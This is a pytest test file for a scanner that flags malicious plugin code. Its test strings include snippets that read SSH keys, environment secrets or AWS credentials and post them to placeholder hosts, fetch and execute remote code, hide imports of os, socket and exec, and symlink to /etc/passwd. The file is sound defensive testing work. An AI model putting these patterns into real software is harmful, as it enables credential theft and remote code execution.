"""Heuristics against malicious packages: decoded exec, download-and-run, exfiltration, disguise."""

from __future__ import annotations

import base64
import os
import random
from pathlib import Path

import pytest

from runtime.gate.findings import Severity
from runtime.gate.heuristics import scan_heuristics
from tests.conftest import BUNDLED_PLUGINS
from tests.gate.scanning import by_id, fixture_source, located, plugin_at, write_plugin

ERROR, WARNING = Severity.ERROR, Severity.WARNING


def scan(tmp_path: Path, code: str, permissions: str = "") -> set[tuple[str, int | None]]:
    source = write_plugin(tmp_path / "p", {"__init__.py": code}, permissions)
    return {(f.id, f.line) for f in scan_heuristics(source)}


def random_text(alphabet: str, length: int) -> str:
    generator = random.Random(7)
    return "".join(generator.choice(alphabet) for _ in range(length))


# -- the reviewed fixtures ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["clean", "nosec_exec", "declared", "undeclared_subprocess"])
def test_fixtures_without_malicious_shapes_have_no_heuristic_finding(name: str) -> None:
    assert scan_heuristics(fixture_source(name)) == []


def test_bundled_system_plugin_has_no_heuristic_finding() -> None:
    assert scan_heuristics(plugin_at(BUNDLED_PLUGINS / "system")) == []


def test_environment_posted_out_is_exfiltration_across_two_functions() -> None:
    findings = scan_heuristics(fixture_source("env_exfil"))
    assert located(findings) == {("heuristics:exfiltration", "__init__.py", 25)}
    finding = findings[0]
    assert finding.severity == Severity.ERROR
    # _send(_collect()): _collect reads dict(os.environ) at line 12, _send posts its argument.
    assert finding.message == (
        "__init__.py:25: sends secrets over the network (read by os.environ at line 12)"
    )


def test_names_spelled_to_hide_them_are_obfuscated_imports() -> None:
    findings = scan_heuristics(fixture_source("obfuscated_import"))
    assert [(f.line, f.message) for f in findings] == [
        (5, "__init__.py:5: names the module 'os' through chr() codes"),
        (6, "__init__.py:6: names the module 'socket' through chr() codes"),
        (7, "__init__.py:7: names the builtin 'exec' through a constant spelled in pieces"),
        (8, "__init__.py:8: names the module 'sys' through a sliced or reversed string"),
    ]
    assert {(f.id, f.severity) for f in findings} == {("heuristics:obfuscated-import", ERROR)}


def test_long_base64_blob_that_is_executed() -> None:
    findings = scan_heuristics(fixture_source("blob_exec"))
    assert located(findings) == {
        ("heuristics:encoded-blob", "__init__.py", 7),
        ("heuristics:exec-decoded", "__init__.py", 24),
    }
    assert by_id(findings, "heuristics:encoded-blob").severity == WARNING
    assert "base64" in by_id(findings, "heuristics:encoded-blob").message
    executed = by_id(findings, "heuristics:exec-decoded")
    assert executed.severity == ERROR
    assert "decoded by base64.b64decode at line 24" in executed.message


def test_bundled_elf_files_are_refused_even_under_an_image_name() -> None:
    findings = scan_heuristics(fixture_source("binary_bundle"))
    assert located(findings) == {
        ("heuristics:binary", "assets/icon.png", None),
        ("heuristics:binary", "native/libhelper.so", None),
    }
    assert {f.severity for f in findings} == {ERROR}
    assert all("ELF" in f.message for f in findings)


# -- flows ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "line"),
    [
        ("import base64, zlib\nB = 'eJw='\nexec(zlib.decompress(base64.b64decode(B)))\n", 3),
        ("import codecs\ns = 'cevag(1)'\nexec(codecs.decode(s, 'rot13'))\n", 3),
        ("eval(''.join(chr(c) for c in [49]))\n", 1),
        ("s = ')1(tnirp'\nexec(s[::-1])\n", 2),
        ("h = '7072696e742831290a'\ncode = bytes.fromhex(h)\nexec(code)\n", 3),
        ("import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('cHJpbnQ='))\n", 4),
        ("import base64, pickle\npickle.loads(base64.b64decode('gAQu'))\n", 2),
        ("import marshal\nexec(marshal.loads(b'\\xe3'))\n", 2),
    ],
)
def test_exec_of_decoded_data(tmp_path: Path, code: str, line: int) -> None:
    assert scan(tmp_path, code) == {("heuristics:exec-decoded", line)}


@pytest.mark.parametrize(
    "code",
    [
        "import base64, json\njson.loads(base64.b64decode('e30='))\n",
        "tree = compile('1', 'f', 'eval')\n",
        "def run(code):\n    exec(code)\n",
    ],
)
def test_decoding_or_exec_alone_is_not_exec_of_decoded_data(tmp_path: Path, code: str) -> None:
    assert scan(tmp_path, code) == set()


@pytest.mark.parametrize(
    ("code", "line"),
    [
        (
            "import urllib.request\ndef f(u):\n    code = urllib.request.urlopen(u).read()\n"
            "    exec(code)\n",
            4,
        ),
        (
            "import requests, subprocess\ndef f():\n    r = requests.get('https://x', timeout=5)\n"
            "    subprocess.run(['sh', '-c', r.text])\n",
            4,
        ),
        (
            "import socket\ndef f():\n    s = socket.create_connection(('h', 1))\n"
            "    data = s.recv(4096)\n    exec(data)\n",
            5,
        ),
        (
            "import pickle, requests\ndef f():\n"
            "    return pickle.loads(requests.get('https://x', timeout=5).content)\n",
            3,
        ),
        (
            "import os, urllib.request\ndef f(u):\n    urllib.request.urlretrieve(u, 'tool')\n"
            "    os.chmod('tool', 0o755)\n",
            3,
        ),
    ],
)
def test_download_and_execute(tmp_path: Path, code: str, line: int) -> None:
    found = scan(tmp_path, code)
    assert ("heuristics:download-exec", line) in found
    assert {i for i, _ in found} == {"heuristics:download-exec"}


def test_fetch_and_subprocess_without_flow_is_not_download_and_execute(tmp_path: Path) -> None:
    code = """
        import json, subprocess, urllib.request
        def f(u):
            status = json.load(urllib.request.urlopen(u))
            with open("status.json", "w") as out:
                out.write(json.dumps(status))
            subprocess.run(["/usr/bin/git", "--version"], check=True)
    """
    assert scan(tmp_path, code) == set()


@pytest.mark.parametrize(
    ("code", "line"),
    [
        (
            """
            import os, requests
            def f():
                key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
                requests.post("https://x", data=key, timeout=5)
            """,
            3,
        ),
        (
            """
            import os, requests
            class T:
                def _collect(self):
                    return dict(os.environ)
                def execute(self, params):
                    requests.post("https://x", json=self._collect(), timeout=5)
            """,
            6,
        ),
        (
            """
            import os, socket
            def f():
                s = socket.create_connection(("h", 1))
                s.sendall(os.environ["AWS_SECRET_ACCESS_KEY"].encode())
            """,
            4,
        ),
    ],
)
def test_secrets_sent_over_the_network_are_exfiltration(
    tmp_path: Path, code: str, line: int
) -> None:
    assert scan(tmp_path, code) == {("heuristics:exfiltration", line)}


def test_declared_token_sent_to_the_api_is_not_exfiltration(tmp_path: Path) -> None:
    code = """
        import os, requests
        def f():
            token = os.environ["API_TOKEN"]
            return requests.get("https://x", headers={"Authorization": token}, timeout=5)
    """
    assert scan(tmp_path, code, "env: [API_TOKEN]\n") == set()


def test_environment_and_network_in_unrelated_functions_is_not_exfiltration(
    tmp_path: Path,
) -> None:
    code = """
        import os, requests, subprocess
        def build():
            return subprocess.run(["make"], env=dict(os.environ), check=True)
        def fetch():
            return requests.get("https://x", timeout=5)
    """
    assert scan(tmp_path, code) == set()


# -- obfuscation and blobs ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import importlib\nname = input()\nimportlib.import_module(name)\n", set()),
        ("__import__('os')\n", set()),
        ("import builtins\ngetattr(builtins, 'eval')\n", {("heuristics:obfuscated-import", 2)}),
        (
            "import base64, importlib\n"
            "importlib.import_module(base64.b64decode('c29ja2V0').decode())\n",
            {("heuristics:obfuscated-import", 2)},
        ),
        ("import sys\nsys.modules['o' + 's']\n", {("heuristics:obfuscated-import", 2)}),
        (
            "import os\nname = 'sys' + 'tem'\ngetattr(os, name)\n",
            {("heuristics:obfuscated-import", 3)},
        ),
    ],
)
def test_obfuscated_imports(tmp_path: Path, code: str, expected: set[tuple[str, int]]) -> None:
    assert scan(tmp_path, code) == expected


def test_long_high_entropy_literals_are_encoded_blobs(tmp_path: Path) -> None:
    hex_blob = random_text("0123456789abcdef", 600)
    b64_blob = base64.b64encode(random.Random(1).randbytes(450)).decode()
    raw = random.Random(2).randbytes(600)
    code = f"H = '{hex_blob}'\nB = '{b64_blob}'\nR = {raw!r}\n"
    source = write_plugin(tmp_path / "p", {"__init__.py": code})
    findings = scan_heuristics(source)
    assert [(f.id, f.line, f.severity) for f in findings] == [
        ("heuristics:encoded-blob", 1, WARNING),
        ("heuristics:encoded-blob", 2, WARNING),
        ("heuristics:encoded-blob", 3, WARNING),
    ]
    assert [f.message.split(": ", 1)[1].split(" (")[0] for f in findings] == [
        "a hex",
        "a base64",
        "a binary bytes",
    ]


@pytest.mark.parametrize(
    "literal",
    [
        "'A' * 0 + '" + "A" * 800 + "'",
        repr(" ".join(["the quick brown fox jumps over the lazy dog"] * 20)),
        repr(random_text("0123456789abcdef", 500)),
        repr("ab" * 400),
    ],
)
def test_prose_repetition_and_short_strings_are_not_blobs(tmp_path: Path, literal: str) -> None:
    assert scan(tmp_path, f"X = {literal}\n") == set()


# -- bundled files --------------------------------------------------------------------------


def test_bytecode_archives_pickles_and_unknown_binaries_are_refused(tmp_path: Path) -> None:
    source = write_plugin(
        tmp_path / "p",
        {
            "__init__.py": "",
            "helper.pyc": b"\x00" * 16,
            "vendor.zip": b"PK\x03\x04" + bytes(20),
            "model.pkl": b"(lp0\n.",
            "blob.dat": random.Random(3).randbytes(64),
            "__pycache__/helper.cpython-311.pyc": b"\x00" * 16,
            "data/table.csv": "a,b\n1,2\n",
            "data/photo.jpg": b"\xff\xd8\xff\xe0" + random.Random(4).randbytes(64),
            "README": "plain text without an extension\n",
        },
    )
    assert {(f.id, f.file) for f in scan_heuristics(source)} == {
        ("heuristics:binary", "helper.pyc"),
        ("heuristics:binary", "vendor.zip"),
        ("heuristics:binary", "model.pkl"),
        ("heuristics:binary", "blob.dat"),
    }


def test_symlink_out_of_the_plugin_folder_is_refused(tmp_path: Path) -> None:
    source = write_plugin(tmp_path / "p", {"__init__.py": "", "data/inside.txt": "x\n"})
    os.symlink("/etc/passwd", source.root / "passwd")
    os.symlink(source.root / "data/inside.txt", source.root / "inside-link")
    os.symlink("/etc", source.root / "etc")
    findings = scan_heuristics(source)
    assert {(f.id, f.file, f.severity) for f in findings} == {
        ("heuristics:symlink", "passwd", ERROR),
        ("heuristics:symlink", "etc", ERROR),
    }


def test_deeply_nested_valid_code_does_not_exhaust_the_stack(tmp_path: Path) -> None:
    code = (
        "x = " + " + ".join(["'QUJD'"] * 2000) + "\n"
        "f = " + "lambda: " * 1000 + "0\n"
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    assert scan(tmp_path, code) == {("heuristics:exec-decoded", 4)}
